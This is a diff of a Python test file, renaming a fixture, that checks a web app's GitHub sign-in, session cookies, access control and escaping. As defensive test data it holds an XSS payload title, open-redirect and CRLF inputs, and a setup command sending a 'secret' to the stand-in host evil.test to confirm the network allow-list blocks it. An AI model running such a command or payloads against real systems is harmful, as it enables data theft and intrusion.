@@ -16,7 +16,7 @@ from pydantic import SecretStr
 from app import log_events
 from app.playground.run import let_sign_in, sign_in_settings
 from app.web.sessions import Cookies, SigningIn, WebSession
-from tests.support.house import FINISH, FIX, PROJECT, House, Subject, open_house, script
+from tests.support.harness import FINISH, FIX, PROJECT, Harness, Subject, open_harness, script
 
 pytestmark = pytest.mark.asyncio(loop_scope="module")
 
@@ -25,19 +25,19 @@ CLIENT_SECRET = "playground-client-secret"
 PLAN = {"plan": {"items": [{"text": "Turn <b>minus</b> into plus", "done": True}]}}
 
 
-@pytest_asyncio.fixture(scope="module", loop_scope="module", name="house")
-async def _house() -> AsyncIterator[House]:
+@pytest_asyncio.fixture(scope="module", loop_scope="module", name="harness")
+async def _house() -> AsyncIterator[Harness]:
     settings = sign_in_settings() | {"HONK_SESSION_SECRET": SESSION_SECRET}
-    async with open_house(**settings) as house:
-        let_sign_in(house.github, house.url)
-        yield house
+    async with open_harness(**settings) as harness:
+        let_sign_in(harness.github, harness.url)
+        yield harness
 
 
 @pytest_asyncio.fixture(scope="module", loop_scope="module", name="public")
-async def _public(house: House) -> Subject:
+async def _public(harness: Harness) -> Subject:
     """A run that is over, in a repository that everybody can read."""
     plays = script([PLAN, FIX], [FINISH])
-    subject = await house.subject(
+    subject = await harness.subject(
         name="open", title="<script>alert(1)</script> add() subtracts", plays=plays
     )
     await subject.label()
@@ -46,10 +46,10 @@ async def _public(house: House) -> Subject:
 
 
 @pytest_asyncio.fixture(scope="module", loop_scope="module", name="private")
-async def _private(house: House) -> Subject:
+async def _private(harness: Harness) -> Subject:
     """A run that is over, in a repository that Olivia and Walter can read."""
     plays = script([FIX], [FINISH])
-    subject = await house.subject(
+    subject = await harness.subject(
         name="closed",
         title="the secret plan",
         plays=plays,
@@ -68,22 +68,22 @@ def _page(subject: Subject) -> str:
 
 
 @asynccontextmanager
-async def _visitor(house: House) -> AsyncIterator[httpx.AsyncClient]:
-    async with httpx.AsyncClient(base_url=house.url) as client:
+async def _visitor(harness: Harness) -> AsyncIterator[httpx.AsyncClient]:
+    async with httpx.AsyncClient(base_url=harness.url) as client:
         yield client
 
 
-async def _begin(client: httpx.AsyncClient, house: House, login: str, then: str = "") -> str:
+async def _begin(client: httpx.AsyncClient, harness: Harness, login: str, then: str = "") -> str:
     """Go as far as GitHub and agree there; gives where GitHub sends the person back to."""
     answer = await client.get("/login/start", params={"then": then})
     assert answer.status_code == 303
-    return house.github.sign_in(login, answer.headers["location"])
+    return harness.github.sign_in(login, answer.headers["location"])
 
 
 @asynccontextmanager
-async def _signed_in(house: House, login: str) -> AsyncIterator[httpx.AsyncClient]:
-    async with _visitor(house) as client:
-        answer = await client.get(await _begin(client, house, login))
+async def _signed_in(harness: Harness, login: str) -> AsyncIterator[httpx.AsyncClient]:
+    async with _visitor(harness) as client:
+        answer = await client.get(await _begin(client, harness, login))
         assert (answer.status_code, answer.headers["location"]) == (303, "/runs")
         yield client
 
@@ -92,80 +92,80 @@ async def _signed_in(house: House, login: str) -> AsyncIterator[httpx.AsyncClien
 
 
 async def test_who_is_not_signed_in_is_led_to_the_door_and_back(
-    house: House, public: Subject
+    harness: Harness, public: Subject
 ) -> None:
-    async with _visitor(house) as client:
+    async with _visitor(harness) as client:
         led = await client.get(_page(public))
         assert led.status_code == 303
         door = await client.get(led.headers["location"])
         assert "Sign in with GitHub" in door.text
         (start,) = re.findall(r'href="(/login/start[^"]+)"', door.text)
         sent = await client.get(start)
-        back = await client.get(house.github.sign_in("rita", sent.headers["location"]))
+        back = await client.get(harness.github.sign_in("rita", sent.headers["location"]))
         assert back.headers["location"] == _page(public)
         assert (await client.get("/login")).headers["location"] == "/runs"
 
 
-async def test_no_secret_reaches_github_and_redirects_stay_local(house: House) -> None:
-    async with _visitor(house) as client:
+async def test_no_secret_reaches_github_and_redirects_stay_local(harness: Harness) -> None:
+    async with _visitor(harness) as client:
         for then in ("https://evil.example/", "//evil.example", "/runs/../login", "/runs/x\r\ny"):
             asked = await client.get("/login/start", params={"then": then})
             query = parse_qs(urlsplit(asked.headers["location"]).query)
             assert set(query) == {"client_id", "state", "code_challenge", "code_challenge_method"}
             assert query["code_challenge_method"] == ["S256"]
-            back = house.github.sign_in("rita", asked.headers["location"])
+            back = harness.github.sign_in("rita", asked.headers["location"])
             assert (await client.get(back)).headers["location"] == "/runs"
 
 
-async def test_cookies_are_as_they_should_be(house: House) -> None:
-    async with _visitor(house) as client:
+async def test_cookies_are_as_they_should_be(harness: Harness) -> None:
+    async with _visitor(harness) as client:
         begun = (await client.get("/login/start")).headers["set-cookie"]
-        answer = await client.get(await _begin(client, house, "rita"))
+        answer = await client.get(await _begin(client, harness, "rita"))
         given = [v for v in answer.headers.get_list("set-cookie") if "honk-session=" in v]
         for cookie in (begun, *given):
             assert "HttpOnly" in cookie
             assert "SameSite=lax" in cookie
             assert "Path=/" in cookie
             assert re.search(r"Max-Age=\d{3,5};", cookie)
-        tokens = [text for text in house.github.world.tokens if text.startswith("ghu_")]
+        tokens = [text for text in harness.github.world.tokens if text.startswith("ghu_")]
         assert tokens
         assert not [text for text in tokens if text in " ".join(given)]
 
 
-async def test_a_code_works_only_for_its_own_browser(house: House) -> None:
-    async with _visitor(house) as attacker, _visitor(house) as victim:
-        back = await _begin(attacker, house, "stan")
+async def test_a_code_works_only_for_its_own_browser(harness: Harness) -> None:
+    async with _visitor(harness) as attacker, _visitor(harness) as victim:
+        back = await _begin(attacker, harness, "stan")
         assert (await victim.get(back)).status_code == 400
-        await _begin(victim, house, "olivia")
+        await _begin(victim, harness, "olivia")
         refused = await victim.get(back)
         assert refused.status_code == 400
         assert "has expired" in refused.text
         assert (await victim.get("/api/runs")).status_code == 401
 
 
-async def test_a_state_that_is_missing_or_changed_is_refused(house: House) -> None:
-    async with _visitor(house) as client:
-        code = parse_qs(urlsplit(await _begin(client, house, "olivia")).query)["code"][0]
+async def test_a_state_that_is_missing_or_changed_is_refused(harness: Harness) -> None:
+    async with _visitor(harness) as client:
+        code = parse_qs(urlsplit(await _begin(client, harness, "olivia")).query)["code"][0]
         for state in ({}, {"state": ""}, {"state": "x" * 43}, {"state": "ü"}):
             answer = await client.get("/login/callback", params={"code": code} | state)
             assert answer.status_code == 400, state
         assert (await client.get("/api/runs")).status_code == 401
 
 
-async def test_a_code_is_good_once(house: House) -> None:
-    async with _visitor(house) as client:
-        back = await _begin(client, house, "olivia")
+async def test_a_code_is_good_once(harness: Harness) -> None:
+    async with _visitor(harness) as client:
+        back = await _begin(client, harness, "olivia")
         kept = dict(client.cookies)
         assert (await client.get(back)).status_code == 303
-    async with _visitor(house) as again:
+    async with _visitor(harness) as again:
         again.cookies.update(kept)
         assert (await again.get(back)).status_code == 400
         assert (await again.get("/api/runs")).status_code == 401
 
 
-async def test_declining_is_reported(house: House) -> None:
-    async with _visitor(house) as client:
-        state = parse_qs(urlsplit(await _begin(client, house, "olivia")).query)["state"][0]
+async def test_declining_is_reported(harness: Harness) -> None:
+    async with _visitor(harness) as client:
+        state = parse_qs(urlsplit(await _begin(client, harness, "olivia")).query)["state"][0]
         answer = await client.get(
             "/login/callback", params={"error": "access_denied", "state": state}
         )
@@ -176,8 +176,10 @@ async def test_declining_is_reported(house: House) -> None:
 # -- what each one sees
 
 
-async def test_a_page_tells_what_a_person_on_a_phone_wants(house: House, public: Subject) -> None:
-    async with _signed_in(house, "olivia") as client:
+async def test_a_page_tells_what_a_person_on_a_phone_wants(
+    harness: Harness, public: Subject
+) -> None:
+    async with _signed_in(harness, "olivia") as client:
         text = (await client.get(_page(public))).text
     assert "Done" in text
     assert "requested by olivia" in text
@@ -188,13 +190,13 @@ async def test_a_page_tells_what_a_person_on_a_phone_wants(house: House, public:
     assert "Fixed, its test unchanged: 1" in text
     assert re.search(r"worked</dt><dd>|tested</dt><dd>", text)
     assert re.search(r"cost</dt><dd>\$\d+\.\d\d", text)
-    github = f"{house.github.url}/{public.repository}"
+    github = f"{harness.github.url}/{public.repository}"
     assert f'href="{github}/issues/{public.number}"' in text
     assert f'href="{github}/pull/{public.pull.number}"' in text
     assert f'href="{github}/runs/{public.check.id}"' in text
 
 
-async def test_a_page_tells_what_set_up_tried_to_reach(house: House) -> None:
+async def test_a_page_tells_what_set_up_tried_to_reach(harness: Harness) -> None:
     fetch = "import urllib.request as u; u.urlopen('https://evil.test/?secret')"
     rules = f"""
 setup: ['python3 -c "{fetch.replace("'", "''")}" || true']
@@ -202,16 +204,18 @@ network: {{allow: [files.example]}}
 verify: ["python3 -c 'import calc; assert calc.add(2, 3) == 5'"]
 """
     files = {**PROJECT, ".github/honk.yml": rules.encode()}
-    subject = await house.subject(files=files, plays=script([FIX], [FINISH]))
+    subject = await harness.subject(files=files, plays=script([FIX], [FINISH]))
     await subject.label()
     await subject.settled()
-    async with _signed_in(house, "olivia") as client:
+    async with _signed_in(harness, "olivia") as client:
         text = (await client.get(_page(subject))).text
     assert "<code>evil.test</code>: the host is not on the allow-list" in text
 
 
-async def test_what_people_wrote_is_text_and_never_markup(house: House, public: Subject) -> None:
-    async with _signed_in(house, "olivia") as client:
+async def test_what_people_wrote_is_text_and_never_markup(
+    harness: Harness, public: Subject
+) -> None:
+    async with _signed_in(harness, "olivia") as client:
         for path in (_page(public), "/runs"):
             answer = await client.get(path)
             assert "<script>alert" not in answer.text
@@ -222,10 +226,10 @@ async def test_what_people_wrote_is_text_and_never_markup(house: House, public: 
 
 
 async def test_a_private_run_is_seen_by_those_who_can_read_the_repository(
-    house: House, public: Subject, private: Subject
+    harness: Harness, public: Subject, private: Subject
 ) -> None:
     for login in ("olivia", "walter"):
-        async with _signed_in(house, login) as client:
+        async with _signed_in(harness, login) as client:
             assert "the secret plan" in (await client.get(_page(private))).text
             listed = (await client.get("/runs")).text
             assert "the secret plan" in listed
@@ -233,9 +237,9 @@ async def test_a_private_run_is_seen_by_those_who_can_read_the_repository(
 
 
 async def test_to_others_a_private_run_is_not_there(
-    house: House, public: Subject, private: Subject
+    harness: Harness, public: Subject, private: Subject
 ) -> None:
-    async with _signed_in(house, "rita") as client:
+    async with _signed_in(harness, "rita") as client:
         hidden, unknown = await client.get(_page(private)), await client.get("/runs/aaaaaaaaaa")
         assert hidden.status_code == unknown.status_code == 404
         assert hidden.text == unknown.text
@@ -248,8 +252,8 @@ async def test_to_others_a_private_run_is_not_there(
     assert private.repository not in {run["repository"] for run in told["runs"]}
 
 
-async def test_programs_get_the_same_list(house: House, private: Subject) -> None:
-    async with _signed_in(house, "walter") as client:
+async def test_programs_get_the_same_list(harness: Harness, private: Subject) -> None:
+    async with _signed_in(harness, "walter") as client:
         told = (await client.get("/api/runs", params={"repo": private.repository})).json()
     (run,) = told["runs"]
     assert run["title"] == "the secret plan"
@@ -258,22 +262,24 @@ async def test_programs_get_the_same_list(house: House, private: Subject) -> Non
     assert run["pull_url"].endswith(f"/pull/{private.pull.number}")
 
 
-async def test_a_page_is_of_the_repository_and_not_of_its_name(house: House) -> None:
+async def test_a_page_is_of_the_repository_and_not_of_its_name(harness: Harness) -> None:
     """Another repository under the same name opens nothing."""
     plays = script([FIX], [FINISH])
-    subject = await house.subject(name="moves", title="a former secret", plays=plays, private=True)
+    subject = await harness.subject(
+        name="moves", title="a former secret", plays=plays, private=True
+    )
     await subject.label()
     await subject.settled()
     page = _page(subject)
-    await house.github.rename(subject.repository, "moved", "olivia")
-    await house.github.add_repository(subject.repository)
-    async with _signed_in(house, "rita") as client:
+    await harness.github.rename(subject.repository, "moved", "olivia")
+    await harness.github.add_repository(subject.repository)
+    async with _signed_in(harness, "rita") as client:
         assert (await client.get(page)).status_code == 404
 
 
-async def test_while_github_is_away_nothing_is_guessed(house: House, public: Subject) -> None:
-    async with _signed_in(house, "trudy") as client:
-        house.github.faults.answer("GET", f"/repos/{public.repository}", 502, times=1)
+async def test_while_github_is_away_nothing_is_guessed(harness: Harness, public: Subject) -> None:
+    async with _signed_in(harness, "trudy") as client:
+        harness.github.faults.answer("GET", f"/repos/{public.repository}", 502, times=1)
         answer = await client.get(_page(public))
         assert answer.status_code == 503
         assert "Try again" in answer.text
@@ -283,10 +289,10 @@ async def test_while_github_is_away_nothing_is_guessed(house: House, public: Sub
 # -- forged and worn out
 
 
-async def test_forged_and_worn_out_cookies_open_nothing(house: House, public: Subject) -> None:
-    async with _signed_in(house, "olivia") as client:
+async def test_forged_and_worn_out_cookies_open_nothing(harness: Harness, public: Subject) -> None:
+    async with _signed_in(harness, "olivia") as client:
         good = client.cookies["honk-session"]
-    real = [text for text in house.github.world.tokens if text.startswith("ghu_")][-1]
+    real = [text for text in harness.github.world.tokens if text.startswith("ghu_")][-1]
     ours = Cookies(SecretStr(SESSION_SECRET), is_secure=False)
     others = Cookies(SecretStr("another-session-secret-of-some-length"), is_secure=False)
     session = WebSession("olivia", 1, real, "form", time.time() + 60)
@@ -301,23 +307,23 @@ async def test_forged_and_worn_out_cookies_open_nothing(house: House, public: Su
         "worn out": ours.seal(worn_out),
         "of another kind": ours.seal(way),
     }
-    assert await _status_with(house, public, ours.seal(session)) == 200
+    assert await _status_with(harness, public, ours.seal(session)) == 200
     for name, cookie in forged.items():
-        assert await _status_with(house, public, cookie) == 303, name
+        assert await _status_with(harness, public, cookie) == 303, name
 
 
-async def _status_with(house: House, subject: Subject, cookie: str) -> int:
-    async with _visitor(house) as client:
+async def _status_with(harness: Harness, subject: Subject, cookie: str) -> int:
+    async with _visitor(harness) as client:
         headers = {"cookie": f"honk-session={cookie}"}
         return (await client.get(_page(subject), headers=headers)).status_code
 
 
 async def test_a_token_that_github_took_back_ends_the_session(
-    house: House, public: Subject
+    harness: Harness, public: Subject
 ) -> None:
-    async with _signed_in(house, "stan") as client:
-        newest = [text for text in house.github.world.tokens if text.startswith("ghu_")][-1]
-        del house.github.world.tokens[newest]
+    async with _signed_in(harness, "stan") as client:
+        newest = [text for text in harness.github.world.tokens if text.startswith("ghu_")][-1]
+        del harness.github.world.tokens[newest]
         answer = await client.get(_page(public))
         assert answer.status_code == 303
         assert answer.headers["location"].startswith("/login")
@@ -327,10 +333,10 @@ async def test_a_token_that_github_took_back_ends_the_session(
 # -- leaving
 
 
-async def test_only_our_own_form_signs_people_out(house: House, public: Subject) -> None:
-    async with _signed_in(house, "olivia") as client:
+async def test_only_our_own_form_signs_people_out(harness: Harness, public: Subject) -> None:
+    async with _signed_in(harness, "olivia") as client:
         kept = client.cookies["honk-session"]
-        newest = [text for text in house.github.world.tokens if text.startswith("ghu_")][-1]
+        newest = [text for text in harness.github.world.tokens if text.startswith("ghu_")][-1]
         for form in ({}, {"form": "x"}, {"form": "ü"}, {"form": "x" * 10_000}):
             assert (await client.post("/logout", data=form)).status_code == 403
         assert (await client.get("/logout")).status_code == 405
@@ -340,7 +346,7 @@ async def test_only_our_own_form_signs_people_out(house: House, public: Subject)
         left = await client.post("/logout", data={"form": word})
         assert (left.status_code, left.headers["location"]) == (303, "/login")
         assert "honk-session" not in client.cookies
-        assert newest not in house.github.world.tokens
+        assert newest not in harness.github.world.tokens
         # A copy of the cookie is worthless.
         client.cookies.set("honk-session", kept)
         assert (await client.get(_page(public))).status_code == 303
@@ -351,7 +357,7 @@ async def test_only_our_own_form_signs_people_out(house: House, public: Subject)
 
 async def test_over_https_cookies_are_bound_to_the_host_and_comments_lead_here() -> None:
     settings = sign_in_settings() | {"HONK_PUBLIC_URL": "https://honk.example/"}
-    async with open_house(**settings) as house, _visitor(house) as client:
+    async with open_harness(**settings) as harness, _visitor(harness) as client:
         begun = await client.get("/login/start")
         query = parse_qs(urlsplit(begun.headers["location"]).query)
         assert query["redirect_uri"] == ["https://honk.example/login/callback"]
@@ -359,7 +365,7 @@ async def test_over_https_cookies_are_bound_to_the_host_and_comments_lead_here()
         assert cookie.startswith("__Host-honk-signing-in=")
         assert "Secure" in cookie
         assert "max-age=" in begun.headers["strict-transport-security"]
-        subject = await house.subject(plays=script([FIX], [FINISH]))
+        subject = await harness.subject(plays=script([FIX], [FINISH]))
         await subject.label()
         await subject.settled()
         assert f"(https://honk.example{_page(subject)})" in subject.status
@@ -368,8 +374,8 @@ async def test_over_https_cookies_are_bound_to_the_host_and_comments_lead_here()
 # -- what goes along with every answer
 
 
-async def test_every_page_carries_its_headers(house: House, public: Subject) -> None:
-    async with _signed_in(house, "olivia") as client:
+async def test_every_page_carries_its_headers(harness: Harness, public: Subject) -> None:
+    async with _signed_in(harness, "olivia") as client:
         for path in (
             "/runs",
             _page(public),
@@ -386,8 +392,8 @@ async def test_every_page_carries_its_headers(house: House, public: Subject) -> 
             assert headers["cache-control"] == "no-store"
 
 
-async def test_what_comes_with_the_pages_is_ours_and_nothing_else(house: House) -> None:
-    async with _visitor(house) as client:
+async def test_what_comes_with_the_pages_is_ours_and_nothing_else(harness: Harness) -> None:
+    async with _visitor(harness) as client:
         for name in ("honk.css", "live.js", "mark.svg"):
             answer = await client.get(f"/static/{name}")
             assert answer.status_code == 200
@@ -396,10 +402,10 @@ async def test_what_comes_with_the_pages_is_ours_and_nothing_else(house: House) 
             assert (await client.get(f"/static/{name}")).status_code == 404
 
 
-async def test_the_log_holds_no_secret(house: House, public: Subject) -> None:
-    async with _signed_in(house, "olivia") as client:
+async def test_the_log_holds_no_secret(harness: Harness, public: Subject) -> None:
+    async with _signed_in(harness, "olivia") as client:
         await client.get(_page(public))
-    log = house.log()
+    log = harness.log()
     assert log_events.SIGNED_IN in log
     for secret in (CLIENT_SECRET, SESSION_SECRET, "ghu_"):
         assert secret not in log
@@ -407,11 +413,11 @@ async def test_the_log_holds_no_secret(house: House, public: Subject) -> None:
 
 async def test_without_a_session_secret_the_pages_are_closed_and_say_so() -> None:
     settings = {"GITHUB_CLIENT_ID": "x", "GITHUB_CLIENT_SECRET": CLIENT_SECRET}
-    async with open_house(**settings) as house, _visitor(house) as client:
+    async with open_harness(**settings) as harness, _visitor(harness) as client:
         for path in ("/runs", "/runs/aaaaaaaaaa", "/login", "/login/start", "/login/callback"):
             answer = await client.get(path)
             assert answer.status_code == 503
             assert "HONK_SESSION_SECRET" in answer.text
             assert "set-cookie" not in answer.headers
         assert (await client.get("/api/runs")).status_code == 503
-        assert log_events.PAGES_DISABLED in house.log()
+        assert log_events.PAGES_DISABLED in harness.log()
